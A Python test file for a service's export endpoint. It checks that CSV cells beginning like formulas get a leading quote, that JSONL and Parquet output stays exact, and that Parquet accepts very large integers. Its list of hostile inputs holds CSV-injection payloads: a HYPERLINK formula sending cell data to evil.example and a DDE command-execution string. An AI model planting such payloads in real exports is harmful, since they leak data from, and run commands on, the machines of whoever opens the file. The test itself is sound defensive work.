"""CSV export never hands a spreadsheet a formula (OWASP CSV injection); JSONL and Parquet
stay exact. A job-token holder writes these texts; the job's owner opens the file."""

from __future__ import annotations

import csv
import io
import json
import uuid

import httpx
import pyarrow.parquet as pq

from ._helpers import PRED, create_job, ingest, row

TEXT_COLUMNS = ("prompt", "prediction", "ground_truth", "prompt_id", "sample_source")
NUMERIC_COLUMNS = ("epoch", "step", "sample_index", "exact_match", "char_error_rate")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # already quoted: quoted once more, so one leading ' always comes off exactly
]
HARMLESS = ["plain", "a=b", " =1", "1-2", "", "é=1"]


def _export(http: httpx.Client, job_id: str, fmt: str) -> httpx.Response:
    resp = http.get(f"{PRED}/{job_id}/export", params={"format": fmt})
    assert resp.status_code == 200, resp.text[:500]
    return resp


def test_csv_cells_that_start_a_formula_get_a_leading_quote(http: httpx.Client) -> None:
    # Job ids may start with "-" too: the job_id column is text like any other.
    job_id = f"-{uuid.uuid4().hex[:12]}"
    job = create_job(http, job_id)
    texts = HOSTILE + HARMLESS
    items = [
        row(
            0,
            0,
            i,
            prompt=t or " ",
            prediction=t,
            ground_truth=t,
            prompt_id=t or None,
            sample_source=t or None,
            metrics={"delta": -1.5 - i},
        )
        for i, t in enumerate(texts)
    ]
    # The job token (the writer the owner does not control) plants them.
    with httpx.Client(
        base_url=str(http.base_url), headers={"Authorization": f"Bearer {job['job_token']}"}
    ) as writer:
        ingest(writer, job_id, items)

    cells = list(csv.DictReader(io.StringIO(_export(http, job_id, "csv").text, newline="")))
    assert len(cells) == len(texts)
    for cell, item in zip(cells, items, strict=True):
        for name in TEXT_COLUMNS:
            sent = item[name] or ""
            expected = "'" + sent if sent in HOSTILE else sent
            assert cell[name] == expected, (name, sent, cell[name])
        assert cell["job_id"] == "'" + job_id
        for name in NUMERIC_COLUMNS:  # numbers are never quoted
            assert cell[name] == "" or float(cell[name]) >= 0, (name, cell[name])
        # Negative numbers stay numbers (inside the JSON-encoded metrics cell too).
        assert json.loads(cell["metrics"]) == item["metrics"]
        assert not cell["metrics"].startswith("'")
        assert not cell["created_at"].startswith("'")

    # Reading the exact text back: drop one leading "'" from a cell that starts with one.
    prompts = [
        c["prediction"][1:] if c["prediction"].startswith("'") else c["prediction"] for c in cells
    ]
    assert prompts == texts

    jsonl = [json.loads(x) for x in _export(http, job_id, "jsonl").text.splitlines() if x]
    assert [r["prediction"] for r in jsonl] == texts
    assert [r["job_id"] for r in jsonl] == [job_id] * len(texts)
    table = pq.read_table(io.BytesIO(_export(http, job_id, "parquet").content))
    assert table.column("prediction").to_pylist() == texts
    assert table.column("prompt_id").to_pylist() == [t or None for t in texts]


def test_parquet_takes_integers_past_2_53_in_double_columns(http: httpx.Client) -> None:
    """A JSON integer too big for a double without rounding (here 2**54 + 1) used to end the
    Parquet download mid-stream; it is written as the nearest double, as JSON readers read it."""
    job_id = create_job(http, job_id=f"t-{uuid.uuid4().hex}")["id"]
    big = 2**54 + 1
    sent = row(1, 10, 0) | {"latency_ms": big, "metrics": {"reward": big, "small": 2}}
    ingest(http, job_id, [sent])
    table = pq.read_table(io.BytesIO(_export(http, job_id, "parquet").content))
    assert table.column("latency_ms").to_pylist() == [float(big)]
    assert dict(table.column("metrics").to_pylist()[0]) == {"reward": float(big), "small": 2.0}
